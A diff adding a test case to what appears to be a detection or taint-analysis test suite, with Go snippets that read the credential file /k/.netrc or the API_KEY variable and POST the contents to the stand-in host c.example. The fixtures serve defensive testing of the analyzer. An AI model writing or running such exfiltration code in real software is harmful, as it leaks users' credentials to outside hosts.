@@ -42,6 +42,12 @@ test.each<[string, Language, string, string]>([
     "file:/k/.netrc",
   ],
   [
+    "what a condition reads before it asks",
+    "go",
+    `func main() {\n var b bytes.Buffer\n if d, err := os.ReadFile("/k/.netrc"); err == nil {\n  b.Write(d)\n }\n http.Post("https://c.example", "text/plain", bytes.NewReader(b.Bytes()))\n}`,
+    "file:/k/.netrc",
+  ],
+  [
     "a builder of texts",
     "go",
     `func main() {\n var sb strings.Builder\n sb.WriteString(os.Getenv("API_KEY"))\n http.Post("https://c.example", "text/plain", strings.NewReader(sb.String()))\n}`,
